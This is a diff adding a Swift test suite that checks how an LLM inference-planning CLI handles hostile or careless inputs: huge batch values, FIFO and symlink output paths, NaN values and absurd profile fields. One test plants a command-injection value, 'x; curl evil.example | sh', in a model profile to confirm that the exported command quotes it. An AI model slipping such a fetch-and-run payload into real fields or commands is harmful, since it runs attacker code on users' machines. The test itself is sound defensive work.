@@ -1,0 +1,126 @@
+import ArgumentParser
+import Core
+import Foundation
+import PigPlanCommands
+import Profiles
+import Testing
+
+#if canImport(Glibc)
+import Glibc
+#endif
+
+/// Inputs a hostile or careless user gives: each gets a message naming the input, never a trap,
+/// and nothing but a regular file is ever replaced.
+@Suite struct HostileInputTests {
+    /// A profile as a JSON object, edited, as file text.
+    func edited<T: Encodable>(_ profile: T, _ change: (inout [String: Any]) -> Void) throws -> String {
+        var object = try JSONSerialization.jsonObject(with: Data(try ProfileStore.prettyJSON(profile).utf8)) as! [String: Any]
+        change(&object)
+        return String(decoding: try JSONSerialization.data(withJSONObject: object), as: UTF8.self)
+    }
+
+    func message(_ body: () throws -> Void) -> String? {
+        do { try body(); return nil } catch { return ExportCommand.message(for: error) }
+    }
+
+    @Test func hugeBatchesAreRejectedByName() throws {
+        let m = message { _ = try PlanOptions.parse(["--hw", "rtx4090", "--ctx", "96k", "--batch", "9223372036854775807"]) }
+        #expect(m?.contains("--batch 9223372036854775807") == true)
+        let n = message { _ = try PlanOptions.parse(["--hw", "xeon-6338", "--ctx", "1", "--max-batch", "9223372036854775807"]) }
+        #expect(n?.contains("--max-batch") == true)
+    }
+
+    @Test func outRefusesAnythingButARegularFile() throws {
+        let dir = try makeTemporaryDirectory("hostile")
+        defer { try? FileManager.default.removeItem(at: dir) }
+        // A FIFO, a symbolic link (to a file that must stay untouched), a folder path, a character device.
+        let fifo = dir.appendingPathComponent("pipe").path
+        #expect(mkfifo(fifo, 0o644) == 0)
+        let target = dir.appendingPathComponent("target.txt")
+        try "keep".write(to: target, atomically: true, encoding: .utf8)
+        let link = dir.appendingPathComponent("link.json").path
+        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: target.path)
+        for (path, reason) in [(fifo, "FIFO"), (link, "symbolic link"), (dir.path + "/", "names a folder"), ("/dev/null", "character device")] {
+            let m = message { try ExportCommand.parse(["--hw", "h200", "--ctx", "32k", "--out", path]).run() }
+            #expect(m?.contains(reason) == true, "\(path): \(m ?? "no error")")
+            #expect(m?.contains("NSCocoaErrorDomain") == false)
+        }
+        #expect(try String(contentsOf: target, encoding: .utf8) == "keep")
+        var info = stat()
+        #expect(lstat(fifo, &info) == 0 && info.st_mode & S_IFMT == S_IFIFO)
+        // Nothing else was left in the folder (no temporary files).
+        #expect(try FileManager.default.contentsOfDirectory(atPath: dir.path).sorted() == ["link.json", "pipe", "target.txt"])
+        // A missing folder is named.
+        let missing = message { try ExportCommand.parse(["--hw", "h200", "--ctx", "32k", "--out", dir.path + "/no/such/plan.json"]).run() }
+        #expect(missing?.contains("does not exist") == true)
+    }
+
+    @Test func magicPIGCommandQuotesProfileStrings() throws {
+        let dir = try makeTemporaryDirectory("hostile")
+        defer { try? FileManager.default.removeItem(at: dir) }
+        let models = dir.appendingPathComponent("models")
+        try FileManager.default.createDirectory(at: models, withIntermediateDirectories: true)
+        try edited(try ProfileStore.builtIn().model("llama-3.1-8b")) {
+            $0["huggingFaceId"] = "x; curl evil.example | sh #'"
+            var shape = $0["shape"] as! [String: Any]
+            shape["name"] = "evil"
+            $0["shape"] = shape
+        }.write(to: models.appendingPathComponent("evil.json"), atomically: true, encoding: .utf8)
+        let request = try PlanOptions.parse(["--hw", "h200-host16", "--ctx", "32k", "--model", "evil", "--profiles-dir", dir.path,
+                                             "--batch", "1", "--k", "10", "--l", "150"]).request()
+        let line = try ExportCommand.magicPIGCommand(try Planner.plan(request), request: request)
+        #expect(line.contains("--model 'x; curl evil.example | sh #'\\'''"))
+        #expect(shellQuoted("a'b") == "'a'\\''b'")
+        #expect(shellQuoted("meta-llama/Llama-3.1-8B") == "meta-llama/Llama-3.1-8B")
+    }
+
+    @Test func jsonNeverCarriesNonFiniteNumbers() throws {
+        struct Row: Encodable { var rate = Double.nan; var big = Double.infinity; var fine = 1.5 }
+        let text = try PlanRenderer.json(Row())
+        #expect(!text.lowercased().contains("nan") && !text.contains("inf"))
+        #expect(text.contains("\"rate\" : null") && text.contains("\"big\" : null") && text.contains("\"fine\" : 1.5"))
+        #expect(Format.number(.nan) == "n/a" && Format.bytes(.infinity) == "n/a" && Format.seconds(.nan) == "n/a")
+    }
+
+    @Test func absurdProfileValuesNameTheKey() throws {
+        let dir = try makeTemporaryDirectory("hostile")
+        defer { try? FileManager.default.removeItem(at: dir) }
+        let gpus = dir.appendingPathComponent("gpus")
+        try FileManager.default.createDirectory(at: gpus, withIntermediateDirectories: true)
+        try edited(try ProfileStore.builtIn().gpu("rtx4090")) { $0["memoryBandwidthBytesPerSecond"] = 1e-300 }
+            .write(to: gpus.appendingPathComponent("rtx4090.json"), atomically: true, encoding: .utf8)
+        let m = message { _ = try ProfileStore.load(directory: dir.path) }
+        #expect(m?.contains("memoryBandwidthBytesPerSecond") == true, "\(m ?? "loaded")")
+        // Counts past 2^24 (a head count of 2^32) are refused where the file is read.
+        let models = dir.appendingPathComponent("models")
+        try FileManager.default.removeItem(at: gpus)
+        try FileManager.default.createDirectory(at: models, withIntermediateDirectories: true)
+        try edited(try ProfileStore.builtIn().model("llama-3.1-8b")) {
+            var shape = $0["shape"] as! [String: Any]
+            shape["queryHeadCount"] = 4_294_967_296
+            $0["shape"] = shape
+        }.write(to: models.appendingPathComponent("llama-3.1-8b.json"), atomically: true, encoding: .utf8)
+        let h = message { _ = try ProfileStore.load(directory: dir.path) }
+        #expect(h?.contains("queryHeadCount") == true, "\(h ?? "loaded")")
+    }
+
+    @Test func importNamingAnUnknownModelWritesNothing() throws {
+        let dir = try makeTemporaryDirectory("hostile")
+        defer { try? FileManager.default.removeItem(at: dir) }
+        let shipped = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
+            .appendingPathComponent("ProfilesTests/h200-host-kernels.json")
+        var tables = try String(contentsOf: shipped, encoding: .utf8)
+        if !tables.contains("referenceModel") {
+            tables = tables.replacingOccurrences(of: "\"measuredOn\"", with: "\"referenceModel\": \"no-such-model\",\n \"measuredOn\"")
+        }
+        let file = dir.appendingPathComponent("tables.json")
+        try tables.write(to: file, atomically: true, encoding: .utf8)
+        let profiles = dir.appendingPathComponent("profiles").path
+        try FileManager.default.createDirectory(atPath: profiles, withIntermediateDirectories: true)
+        let m = message { try CalibrateCommand.parse(["--import", file.path, "--into", "rtx4090-epyc", "--profiles-dir", profiles]).run() }
+        #expect(m?.contains("no-such-model") == true, "\(m ?? "imported")")
+        #expect(!FileManager.default.fileExists(atPath: profiles + "/systems/rtx4090-epyc.json"))
+        // Later commands still work.
+        _ = try Planner.plan(try PlanOptions.parse(["--hw", "rtx4090-epyc", "--ctx", "32k", "--profiles-dir", profiles]).request())
+    }
+}
